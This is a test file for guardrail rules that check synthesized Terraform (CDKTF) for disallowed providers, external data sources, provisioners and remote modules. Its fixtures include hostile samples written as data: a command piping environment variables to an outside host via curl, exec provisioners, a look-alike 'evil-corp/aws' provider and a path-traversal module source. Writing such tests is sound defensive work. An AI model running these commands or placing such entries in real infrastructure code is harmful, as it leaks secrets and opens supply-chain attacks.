/**
 * The synthesized Terraform as a trust boundary: only the platform's providers, no external data source, no
 * provisioners, no modules from outside the repository. Each rule refuses its case however it was written (a
 * binding's prop, an override), passes what the platform writes, and cannot be suppressed.
 */
import { AwsProvider } from '@cdktf/provider-aws/lib/provider';
import { S3Bucket } from '@cdktf/provider-aws/lib/s3-bucket';
import { SnowflakeProvider } from '@cdktf/provider-snowflake/lib/provider';
import { Warehouse } from '@cdktf/provider-snowflake/lib/warehouse';
import { TerraformHclModule } from 'cdktf';
import {
  providerSourceAddress,
  terraformAllowedProviders,
  terraformNoExternalData,
  terraformNoProvisioners,
  terraformNoRemoteModules,
} from '../../constructs/guardrails';
import { findings, messages } from './helpers';

const platformStack = (s: Parameters<Parameters<typeof findings>[1]>[0]) => {
  new AwsProvider(s, 'aws', { region: 'eu-west-1' });
  new SnowflakeProvider(s, 'snowflake', { organizationName: 'ACME', accountName: 'ACME', user: 'DEPLOYER' });
  new SnowflakeProvider(s, 'snowflake-admin', {
    alias: 'accountadmin',
    organizationName: 'ACME',
    accountName: 'ACME',
    user: 'DEPLOYER',
  });
  new S3Bucket(s, 'b', { bucket: 'acme-b' });
  new Warehouse(s, 'w', { name: 'W' });
  s.addOverride('resource.terraform_data.stand_in', { input: 'x' });
};

describe('the rules cannot be suppressed', () => {
  it.each([terraformAllowedProviders, terraformNoExternalData, terraformNoProvisioners, terraformNoRemoteModules])(
    '$id',
    (rule) => expect(rule.unsuppressible).toBe(true),
  );
});

describe('terraform-allowed-providers', () => {
  it("passes the platform's providers (aws, snowflake, aliases) and the builtin terraform_data", () => {
    expect(findings(terraformAllowedProviders, platformStack)).toEqual([]);
  });

  it('normalizes source addresses as Terraform does', () => {
    expect(providerSourceAddress('aws')).toBe('registry.terraform.io/hashicorp/aws');
    expect(providerSourceAddress('Hashicorp/AWS')).toBe('registry.terraform.io/hashicorp/aws');
    expect(providerSourceAddress('registry.terraform.io/snowflakedb/snowflake')).toBe(
      'registry.terraform.io/snowflakedb/snowflake',
    );
  });

  it('refuses another provider in required_providers, as a provider block, and by resource type', () => {
    const found = findings(terraformAllowedProviders, (s) => {
      platformStack(s);
      s.addOverride('terraform.required_providers.null', { source: 'hashicorp/null', version: '3.2.0' });
      s.addOverride('provider.null', [{}]);
      s.addOverride('resource.null_resource.run', { triggers: { always: 'x' } });
      s.addOverride('data.http.fetch', { url: 'https://example.com' });
    });
    expect(messages(found).sort()).toEqual([
      'data.http.fetch uses the provider "http" (registry.terraform.io/hashicorp/http), which is not an allowed provider',
      'null_resource.run uses the provider "null" (registry.terraform.io/hashicorp/null), which is not an allowed provider',
      'provider.null uses the provider "null" (registry.terraform.io/hashicorp/null), which is not an allowed provider',
      'required_providers.null has source "registry.terraform.io/hashicorp/null", which is not an allowed provider',
    ]);
  });

  it('refuses a look-alike source under an allowed local name, and a resource aimed at it with provider =', () => {
    const found = findings(terraformAllowedProviders, (s) => {
      new AwsProvider(s, 'aws', { region: 'eu-west-1' });
      s.addOverride('terraform.required_providers.awz', { source: 'evil-corp/aws' });
      s.addOverride('terraform.required_providers.snowflake', { source: 'Snowflake-Labs/snowflake' });
      s.addOverride('resource.aws_s3_bucket.b', { bucket: 'acme-b', provider: 'awz.other' });
    });
    expect(messages(found).sort()).toEqual([
      'aws_s3_bucket.b uses the provider "awz" (registry.terraform.io/evil-corp/aws), which is not an allowed provider',
      'required_providers.awz has source "registry.terraform.io/evil-corp/aws", which is not an allowed provider',
      'required_providers.snowflake has source "registry.terraform.io/snowflake-labs/snowflake", which is not an allowed provider',
    ]);
  });
});

describe('terraform-no-external-data', () => {
  it('refuses an external data source and passes other data sources', () => {
    const found = findings(terraformNoExternalData, (s) => {
      platformStack(s);
      s.addOverride('data.external.whoami', { program: ['sh', '-c', 'env | curl -d @- https://example.com'] });
      s.addOverride('data.aws_caller_identity.me', {});
    });
    expect(messages(found)).toEqual([
      'data.external.whoami runs the program ["sh","-c","env | curl -d @- https://example.com"] when the stack is planned',
    ]);
  });
});

describe('terraform-no-provisioners', () => {
  it('refuses provisioners given through the binding and through an override, of any type', () => {
    const found = findings(terraformNoProvisioners, (s) => {
      platformStack(s);
      new S3Bucket(s, 'with-exec', {
        bucket: 'acme-x',
        provisioners: [{ type: 'local-exec', command: 'curl https://example.com' }],
      });
      s.addOverride('resource.terraform_data.remote', {
        provisioner: [{ 'remote-exec': { inline: ['id'] } }, { file: { source: 'a', destination: 'b' } }],
      });
    });
    expect(messages(found).sort()).toEqual([
      'aws_s3_bucket.with-exec has provisioner(s) "local-exec"',
      'terraform_data.remote has provisioner(s) "remote-exec", "file"',
    ]);
  });

  it('passes resources without provisioners', () => {
    expect(findings(terraformNoProvisioners, platformStack)).toEqual([]);
  });
});

describe('terraform-no-remote-modules', () => {
  it('refuses registry, Git, HTTP and parent-directory sources, and passes a module inside the stack directory', () => {
    const found = findings(terraformNoRemoteModules, (s) => {
      platformStack(s);
      new TerraformHclModule(s, 'registry', { source: 'terraform-aws-modules/s3-bucket/aws' });
      new TerraformHclModule(s, 'git', { source: 'git::https://example.com/m.git' });
      s.addOverride('module.http', { source: 'https://example.com/m.zip' });
      s.addOverride('module.up', { source: './assets/../../../../elsewhere' });
      s.addOverride('module.local', { source: './assets/module' });
    });
    expect(messages(found).sort()).toEqual([
      'module.git has source "git::https://example.com/m.git", from outside the repository',
      'module.http has source "https://example.com/m.zip", from outside the repository',
      'module.registry has source "terraform-aws-modules/s3-bucket/aws", from outside the repository',
      'module.up has source "./assets/../../../../elsewhere", from outside the repository',
    ]);
  });
});
